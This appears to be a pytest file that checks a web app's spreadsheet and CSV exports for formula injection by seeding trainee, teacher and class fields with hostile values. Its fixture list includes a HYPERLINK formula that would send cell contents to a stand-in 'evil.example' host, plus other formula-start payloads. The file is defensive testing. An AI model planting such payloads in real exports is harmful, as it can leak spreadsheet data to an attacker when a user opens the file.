"""Exports never carry a live formula: every XLSX and CSV goes through
server/services/spreadsheet.py.

Text typed by a base (class, teacher, trainee, employer names, certificate numbers, topics) that
starts with = + - @, a tab or a CR is written as a text cell in XLSX and with a leading apostrophe
in CSV. The walk below fetches every download route that answers a spreadsheet or a ZIP, so a new
export that bypasses the writer fails here.
"""

from __future__ import annotations

import csv
import io
import pathlib
import re
import zipfile

import pytest
from openpyxl import load_workbook

from server.extensions import db
from server.services.spreadsheet import csv_bytes, csv_value, new_workbook, put_row, workbook_bytes
from tests.conftest import TEST_PASSWORD
from tests.documents.support import make_visit, record_results

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点此核对")', "+1+1", "-1+1", "@SUM(1,1)",
        "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _poison(world) -> None:
    """Give every text field a base can type a value that starts a formula."""
    for i, trainee in enumerate(world.trainees):
        trainee.name = EVIL[i % len(EVIL)] + f"学员{i}"
        trainee.employer = EVIL[(i + 1) % len(EVIL)]
        trainee.occupation_name = EVIL[(i + 2) % len(EVIL)]
    for key, klass in world.classes.items():
        klass.name = EVIL[0] + key
    for teacher in world.teachers.values():
        teacher.name = EVIL[3] + teacher.name
        teacher.certificate_no = EVIL[0]
    for site in world.sites.values():
        site.name, site.address = EVIL[1], EVIL[2]
    for version in world.versions.values():
        for session in version.sessions:
            session.topic = EVIL[4]
    world.occupation.name = EVIL[5]
    db.session.commit()


def _xlsx_formulas(data: bytes, label: str) -> list[str]:
    found = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{label} {sheet.title}!{cell.coordinate}")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name):
                found.append(f"{label} {name} holds <f>")
    return found


def _csv_formulas(data: bytes, label: str) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [f"{label}: {value[:20]!r}" for row in rows for value in row
            if value.startswith(DANGEROUS)]


def _zip_formulas(data: bytes, label: str) -> list[str]:
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                found += _csv_formulas(zf.read(name), f"{label}/{name}")
            elif name.endswith(".xlsx"):
                found += _xlsx_formulas(zf.read(name), f"{label}/{name}")
    return found


def _download_routes(app) -> list[str]:
    """Every GET route that answers a spreadsheet or a ZIP (a `.<any(xlsx, json):fmt>` too)."""
    routes = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        choice = re.search(r"\.<any\(([^)]*)\):\w+>$", rule.rule)
        if choice:
            routes += [rule.rule[:choice.start()] + "." + ext.strip()
                       for ext in choice.group(1).split(",") if ext.strip() in ("xlsx", "csv",
                                                                                "zip")]
        elif re.search(r"\.(xlsx|csv|zip)$", rule.rule):
            routes.append(rule.rule)
    return sorted(routes)


def _get_as_anyone(app, api, url: str):
    """GET as the city reviewer, else as the base's staff (pages by session, API by token)."""
    for username in ("city", "base_a"):
        if url.startswith("/api/"):
            response = app.test_client().get(url, headers=api.headers(username))
        else:
            web = app.test_client()
            web.post("/login", data={"username": username, "password": TEST_PASSWORD})
            response = web.get(url)
        if response.status_code == 200:
            return response
    return response


def test_every_spreadsheet_download_is_free_of_formulas(app, world, api):
    _poison(world)
    make_visit(world, "a")
    record_results(world, "a", passed=3)
    year = str(world.classes["a"].start_date.year)
    values = {"base_id": str(world.bases["a"].id), "year": year}
    found, fetched = [], []
    for route in _download_routes(app):
        url = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: values[m.group(1)], route)
        response = _get_as_anyone(app, api, url)
        assert response.status_code == 200, (route, response.status_code)
        fetched.append(route)
        if route.endswith(".xlsx"):
            found += _xlsx_formulas(response.data, route)
        elif route.endswith(".csv"):
            found += _csv_formulas(response.data, route)
        else:
            found += _zip_formulas(response.data, route)
    # The walk really covered the exports a reviewer downloads (and the archive's CSV files).
    assert {"/documents/bases/<base_id>/<year>/subsidy.xlsx",
            "/documents/bases/<base_id>/<year>/attachment2.xlsx",
            "/documents/bases/<base_id>/<year>/archive.zip"} <= set(fetched)
    assert found == []


def test_the_poisoned_text_is_kept_as_text_not_dropped(app, world, client):
    _poison(world)
    record_results(world, "a", passed=2)
    year = str(world.classes["a"].start_date.year)
    client.post("/login", data={"username": "city", "password": TEST_PASSWORD})
    data = client.get(f"/documents/bases/{world.bases['a'].id}/{year}/subsidy.xlsx").data
    sheet = load_workbook(io.BytesIO(data))["补贴汇总"]
    assert sheet["A3"].value == EVIL[0] + "a" and sheet["A3"].data_type == "s"
    archive = client.get(f"/documents/bases/{world.bases['a'].id}/{year}/archive.zip").data
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        teachers = zf.read("teachers.csv").decode("utf-8-sig")
    assert "'" + EVIL[0].replace('"', '""') in teachers


@pytest.mark.parametrize("value", EVIL)
def test_the_writer_neutralises_each_formula_start(value):
    assert csv_value(value) == "'" + value
    book = new_workbook()
    put_row(book.active, [value, 12, "普通文字"])
    cell = load_workbook(io.BytesIO(workbook_bytes(book))).active["A1"]
    assert cell.data_type == "s" and cell.value.lstrip("\r\n\t") == value.lstrip("\r\n\t")
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [[value]]).decode("utf-8-sig"),
                                       newline="")))
    assert rows == [["h"], ["'" + value]]


def test_plain_values_pass_unchanged():
    assert csv_value("张三") == "张三" and csv_value(-5) == -5 and csv_value("a=b") == "a=b"
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [["-3"], [-3]]).decode("utf-8-sig"))))
    assert rows == [["a"], ["'-3"], ["-3"]]


def test_no_module_writes_a_spreadsheet_or_csv_but_the_writer():
    root = pathlib.Path(__file__).resolve().parents[2] / "server"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet.py" or "demo" in path.parts:
            continue
        text = path.read_text("utf-8")
        if re.search(r"^(from openpyxl import|import openpyxl|import csv)", text, re.M):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
